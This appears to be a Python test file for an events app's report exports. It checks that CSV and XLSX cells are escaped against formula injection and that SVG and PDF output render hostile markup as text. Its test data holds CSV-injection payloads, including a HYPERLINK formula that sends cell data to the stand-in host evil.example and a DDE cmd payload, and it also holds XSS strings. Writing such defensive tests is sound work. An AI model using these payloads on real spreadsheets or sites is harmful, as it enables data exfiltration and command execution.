"""Pure rendering: CSV/XLSX escaping, SVG charts, PDF text from hostile input."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from openpyxl import load_workbook

from eventsapp.reports import exports, pdf
from eventsapp.reports.charts import Bar, bar_chart_svg
from eventsapp.reports.exports import to_csv
from eventsapp.reports.participants import Participant, ParticipantGroup, ParticipantList
from eventsapp.reports.queries import Count, EventSummary
from eventsapp.spreadsheet import escape_cell

from .conftest import pdf_text

# RELIABILITY.md §3.6, CSV list: (input, what the cell must hold)
CSV_CORPUS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"), ("-1+2", "'-1+2"), ("@SUM(1,1)", "'@SUM(1,1)"),
    # TAB and CR also separate cells (or rows) for some programs: the piece after them too.
    ("\t=1+1", "'\t'=1+1"), ("\r=1+1", "'\r'=1+1"), ("\x00=1+1", "'\x00=1+1"),
    (" =1+1", "' =1+1"), ("-5", "'-5"), ("a,b", "a,b"), ("line1\nline2", "line1\nline2"),
    ('"quoted"', '"quoted"'), ("Zoë", "Zoë"),
]

HOSTILE = ["<b>Alice", '<img src="/etc/passwd"/>', '<font face="x">x</font>', "Smith & Wesson <3",
           "&#0;", "]]>", "<para>", '<a href="javascript:alert(1)">x</a>']


@pytest.mark.parametrize(("value", "expected"), CSV_CORPUS)
def test_csv_cells_that_start_a_formula_are_made_text(value, expected):
    rows = list(csv.reader(io.StringIO(to_csv(["v"], [[value]]).decode("utf-8-sig"),
                                       newline="")))
    assert rows == [["v"], [expected]]


def test_escape_cell_leaves_numbers_as_numbers():
    assert (escape_cell(-5), escape_cell(0), escape_cell(None)) == (-5, 0, None)


def _summary(**overrides) -> EventSummary:
    fields = dict(event_id=1, slug="s", title="T", timezone="UTC", capacity=None, confirmed=0,
                  waitlisted=0, cancelled=0, by_economy=(), organisations=(), by_sector=(),
                  by_category=(), attendance=(), attended=0, fill=(), fill_step_days=1,
                  agenda=())
    return EventSummary(**{**fields, **overrides})


def test_xlsx_cells_are_escaped_like_the_csv():
    values = [v for v, _ in CSV_CORPUS]
    person = Participant(1, "=1+1", "", "", "", None, "delegate", "government", "", True)
    lop = ParticipantList("T", False, (), (ParticipantGroup("@org", None, (person,)),))
    summary = _summary(organisations=tuple(Count(v, v, 1) for v in values))
    wb = load_workbook(io.BytesIO(exports.summary_xlsx(summary, lop)), read_only=True)
    labels = [r[2] for r in wb["Counts"].iter_rows(values_only=True)
              if r[0] == "organisation"]
    # XML cannot hold NUL, and a cell may not keep CR: the rest is what the CSV holds.
    assert labels == [e.replace("\x00", "").replace("\r", "\n") if e.startswith("'") else e
                      for _, e in CSV_CORPUS]
    people = list(wb["Participants"].iter_rows(values_only=True))
    assert people[1][:2] == ("'@org", "'=1+1")


def test_svg_chart_escapes_labels_and_names_itself():
    svg = bar_chart_svg([Bar("<script>alert(1)</script>", 3), Bar("A & B", 0)],
                        chart_id="c1", title="T <x>", desc='D "q"')
    assert "<script>" not in svg
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in svg
    assert "A &amp; B" in svg
    assert '<title id="c1-title">T &lt;x&gt;</title>' in svg
    assert 'aria-labelledby="c1-title c1-desc"' in svg
    assert svg.count("<rect ") == 2  # the panel and the one non-zero bar


@pytest.mark.parametrize("text", HOSTILE)
def test_pdf_paragraph_text_is_never_markup(text):
    data = pdf.render([pdf.para(text), pdf.table(["h"], [[text]], [200])], title=text,
                      group_name="G")
    assert pdf_text(data).count(" ".join(text.split())) >= 2


def test_pdf_text_in_every_script_extracts():
    names = ["Zoë Ñúñez-Łukasz", "李小龍", "髙橋 翔", "สมชาย ใจดี", "ผู้ใหญ่",
             "Nguyễn Thị Minh Khai", "Иван Петров", "Ωμέγα", "김민준"]
    text = unicodedata.normalize("NFKC", pdf_text(
        pdf.render([pdf.para(n) for n in names], title="Names", group_name="G")))
    assert [n for n in names if unicodedata.normalize("NFKC", n) not in text] == []
    assert "\x00" not in text and "■" not in text


def test_pdf_shows_a_replacement_for_characters_no_bundled_font_has():
    # U+30000 (CJK Extension G) is in none of the bundled fonts: drawn as U+FFFD, never
    # dropped silently or drawn as an empty box. (U+20BB7 of Extension B is: Hanazono.)
    text = pdf_text(pdf.render([pdf.para("髙橋 \U00030000野 \U00020BB7")], title="N",
                               group_name="G"))
    assert "髙橋 \ufffd野 \U00020BB7" in text
